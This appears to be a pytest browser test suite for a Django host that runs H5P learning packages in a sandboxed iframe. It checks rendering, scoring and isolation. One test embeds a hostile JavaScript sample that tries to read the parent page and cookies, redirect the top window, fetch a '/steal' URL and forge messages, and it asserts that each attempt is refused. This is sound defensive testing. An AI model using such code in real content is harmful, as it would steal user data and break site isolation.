"""Every real package plays in a browser: shown, shut in, and saying what the learner does."""

import re
from typing import Any

import pytest
from django.test.utils import override_settings

from content.h5p.example import EXAMPLES, installed
from content.h5p.store import install

from .making import make

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

# Those that score after one answer and a click on "check".
SCORES = {
    "clicreator__H5P.MultiChoice-1.16", "clicreator__H5P.TrueFalse-1.8", "lumi__H5P.Blanks", "lumi__H5P.DragText",
    "lumi__H5P.DragQuestion", "lumi__H5P.MarkTheWords", "clicreator__H5P.Crossword-0.5",
    "assembled__MultiMediaChoice-0.3", "assembled__ImagePair-1.4",
}  # fmt: skip
ANSWERS = ".h5p-answer, .h5p-true-false-answer, .h5p-multi-media-choice-option"


@pytest.fixture(autouse=True)
def host_page():
    with override_settings(ROOT_URLCONF="tests.content.h5p.host"):
        yield


def play(screen, package) -> Any:
    page = screen.open(f"/host/{package.pk}/")
    page.wait_for_selector("[data-playing=yes]", timeout=15_000)
    return page


def statements(page) -> list[dict]:
    return page.evaluate("window.said.filter((one) => one.type === 'statement').map((one) => one.statement)")


def own_scores(page) -> list[dict]:
    """Scores of statements without a parent."""
    told = [one for one in statements(page) if "context" not in one and "result" in one]
    return [one["result"]["score"] for one in told if "score" in one["result"]]


def answer(frame) -> None:
    """One answer and a click on what checks it, whatever the type."""
    if frame.locator(ANSWERS).count():
        frame.locator(ANSWERS).first.click()
    for field in frame.locator("input.h5p-text-input").all():
        field.fill("word")
        field.press("Enter")
    check = frame.get_by_role("button", name=re.compile("check|score", re.IGNORECASE))
    if check.count():
        check.first.click()


def test_every_real_package_plays_and_reaches_nothing(screen, packages, subtests):
    files = sorted((packages / "full").glob("*.h5p"))
    assert len(files) == 32
    for file in files:
        with subtests.test(file=file.name):
            page = play(screen, install(file))
            frame = page.frames[1]
            assert frame.locator(".h5p-container > *").count() > 0
            assert page.evaluate("document.querySelector('iframe').clientHeight") >= 60
            assert page.outside == []
            assert frame.evaluate("window.origin") == "null"
            if file.stem in SCORES:
                answer(frame)
                page.wait_for_timeout(300)
                scores = own_scores(page)
                assert scores and scores[-1]["max"] > 0, [one["verb"]["id"] for one in statements(page)]
            page.context.close()


def test_packages_without_libraries_play_once_these_are_here(screen, packages):
    install(packages / "full" / "clicreator__H5P.Crossword-0.5.h5p")
    page = play(screen, install(packages / "nolibs" / "h5p2elpx__crossword.h5p"))
    assert page.frames[1].locator(".h5p-crossword").count() > 0
    page.context.close()


def test_neutralised_packages_play_without_harm(screen, packages, subtests):
    for name in ("clicreator__TRUEFALSE-PRODUCTION-DEMO", "lumi__invalid-language-file-json", "lumi__xss-svg"):
        with subtests.test(file=name):
            page = screen.blank()
            dialogs: list[str] = []
            page.on("dialog", lambda dialog, seen=dialogs: (seen.append(dialog.message), dialog.dismiss()))
            page.goto(f"{screen.origin}/host/{install(packages / 'malformed' / f'{name}.h5p').pk}/")
            page.wait_for_selector("[data-playing=yes]", timeout=15_000)
            assert dialogs == []
            page.context.close()


@pytest.mark.parametrize("name", EXAMPLES)
def test_our_own_examples_play(screen, name):
    page = play(screen, installed(name))
    assert page.frames[1].locator("h2").first.is_visible()
    page.context.close()


HOSTILE = """
H5P.Carte = function () {};
H5P.Carte.prototype.attach = function ($box) {
  const tried = {};
  const attempt = (name, act) => { try { tried[name] = String(act()); } catch (refused) { tried[name] = "refused"; } };
  attempt("parent", () => window.parent.document.title);
  attempt("top", () => { window.top.location = "about:blank"; return "went"; });
  attempt("cookie", () => document.cookie);
  attempt("storage", () => Object.keys(window.localStorage.__proto__).length);
  const tellAll = (name, answer) => { tried[name] = answer; window.tried = tried; };
  fetch("http://localhost:1/steal").then(() => tellAll("fetch", "went"), () => tellAll("fetch", "refused"));
  fetch("/account/").then((answer) => tellAll("site", String(answer.status)), () => tellAll("site", "refused"));
  window.parent.postMessage({context: "cordee-h5p", type: "statement", statement: null}, "*");
  window.parent.postMessage({context: "cordee-h5p", type: "nothing"}, "*");
  window.parent.postMessage({context: "h5p", action: "resize", scrollHeight: 1e9}, "*");
  $box.append("<p>attached</p>");
};
"""


def test_a_hostile_package_reaches_nothing_of_the_site(screen):
    page = play(screen, install(make({"H5P.Carte-1.2/carte.js": HOSTILE})))
    frame = page.frames[1]
    frame.wait_for_function("window.tried && window.tried.fetch && window.tried.site")
    tried = frame.evaluate("window.tried")
    assert tried["parent"] == "refused" and tried["cookie"] == ""
    assert tried["fetch"] == "refused" and tried["site"] in ("404", "refused")
    assert page.url.endswith("/")
    assert page.evaluate("document.querySelector('iframe').clientHeight") <= 20_000
    page.context.close()


def test_a_content_that_does_not_start_says_so(screen):
    page = screen.open(f"/host/{install(make({'H5P.Carte-1.2/carte.js': 'H5P.Carte = 5;'})).pk}/")
    page.wait_for_selector("[data-playing=failed]", timeout=15_000)
    assert len(page.frames[1].locator("[role=alert]").inner_text()) > 30
    page.context.close()
